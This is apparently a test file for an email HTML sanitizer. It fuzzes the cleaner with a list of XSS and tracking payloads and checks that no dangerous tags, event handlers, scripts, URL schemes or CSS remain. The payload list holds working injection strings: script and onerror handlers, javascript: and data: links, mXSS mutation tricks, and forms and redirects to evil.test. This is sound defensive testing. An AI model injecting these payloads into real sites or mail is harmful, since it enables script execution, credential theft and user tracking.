import fc from 'fast-check';
import { Parser } from 'htmlparser2';
import { cleanHtml, HTML_CHARS_MAX } from './rich-text.js';

const clean = (html: string) => cleanHtml(html, (id) => (id === 'logo@1' ? '/api/v1/own/0' : null));

/** Pieces that attacks are made of, each in a few spellings. */
const PIECES = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.test></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://spy.test/pixel.gif">',
  '<img src="//spy.test/pixel.gif">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="cid:logo@1" onload="alert(1)">',
  '<img srcset="https://spy.test/x 2x">',
  '<svg><script>alert(1)</script></svg>',
  '<svg/onload=alert(1)>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:x" target="_self" rel="opener">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="x.swf"></object><embed src="x">',
  '<form action="https://evil.test"><input name="password"><button formaction="javascript:x()">',
  '<base href="https://evil.test/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<link rel="stylesheet" href="https://evil.test/x.css">',
  '<style>@import "https://evil.test/x.css"; body{background:url(https://spy.test)}</style>',
  '<div style="background:url(https://spy.test/1)">x</div>',
  '<div style="background-image:\\75rl(https://spy.test/1)">x</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">x</div>',
  '<div style="width:expression(alert(1));color:red">x</div>',
  '<p onclick="alert(1)" id="root" class="login">x</p>',
  '<video poster="https://spy.test"><source onerror="alert(1)"></video>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<table background="https://spy.test/1"><tr><td>x</td></tr></table>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<p>\0<scr\0ipt>alert(1)</scr\0ipt></p>',
  '</p></div></td><b>text</b>',
  'plain & "text" <3',
] as const;

/** What a browser would meet in the cleaned text: every tag with its attributes. */
function judge(html: string): string[] {
  const bad: string[] = [];
  const parser = new Parser(
    {
      onopentag(name, attributes) {
        if (
          /^(script|style|iframe|object|embed|form|input|button|svg|math|base|meta|link|video|textarea)$/.test(
            name,
          )
        )
          bad.push(`<${name}>`);
        for (const [attribute, value] of Object.entries(attributes)) {
          if (/^on|^(id|class|srcset|background|action|formaction|srcdoc|poster)$/.test(attribute))
            bad.push(`${name}.${attribute}`);
          if (attribute === 'href' && !/^(https?:|mailto:|tel:|#|\/|$)/i.test(value))
            bad.push(`href ${value}`);
          if (attribute === 'src' && value !== '/api/v1/own/0') bad.push(`src ${value}`);
          if (attribute === 'style' && /url|expression|position|z-index|\\|import/i.test(value))
            bad.push(`style ${value}`);
        }
        if (name === 'a' && !attributes.rel?.includes('noopener')) bad.push('a without noopener');
      },
    },
    { decodeEntities: true, lowerCaseTags: true, lowerCaseAttributeNames: true },
  );
  parser.end(html);
  return bad;
}

describe('Rich text', () => {
  it.each(PIECES)('is harmless: %s', (piece) => {
    expect(judge(clean(piece))).toEqual([]);
  });

  it('stays harmless however the pieces are put together or broken', () => {
    const broken = fc
      .tuple(fc.constantFrom(...PIECES), fc.nat(40))
      .map(([piece, cut]) => piece.slice(cut));
    const piece = fc.oneof(fc.constantFrom(...PIECES), broken, fc.string({ maxLength: 10 }));
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        const once = clean(pieces.join(''));
        expect(judge(once)).toEqual([]);
        expect(judge(clean(once))).toEqual([]);
      }),
      { numRuns: 2_000 },
    );
  });

  it('keeps what a mail says', () => {
    const html =
      '<div style="color: #333; margin: 0 4px"><b>Dear Maria</b><br>see <a href="https://acme.test/?a=1&amp;b=2">our shop</a>' +
      '<table width="100%"><tr><td colspan="2">1</td></tr></table><blockquote>before</blockquote></div>';
    const cleaned = clean(html);
    for (const kept of [
      '<b>Dear Maria</b>',
      'href="https://acme.test/?a=1&amp;b=2"',
      'colspan="2"',
      'color:#333',
      '<blockquote>',
    ])
      expect(cleaned).toContain(kept);
  });

  it('shows inline images of the mail itself, and says where a remote one was', () => {
    expect(clean('<img src="cid:logo@1" alt="Logo">')).toBe(
      '<img alt="Logo" src="/api/v1/own/0" />',
    );
    expect(clean('<img src="https://spy.test/x" alt="Our offer">')).toBe('<img alt="Our offer" />');
    expect(clean('<img src="cid:missing">')).toBe('');
  });

  it('leaves a page that is too long to its plain text, and does not choke on a deep one', () => {
    expect(clean('x'.repeat(HTML_CHARS_MAX + 1))).toBe('');
    const began = performance.now();
    clean('<div>'.repeat(50_000));
    expect(performance.now() - began).toBeLessThan(5_000);
  });
});
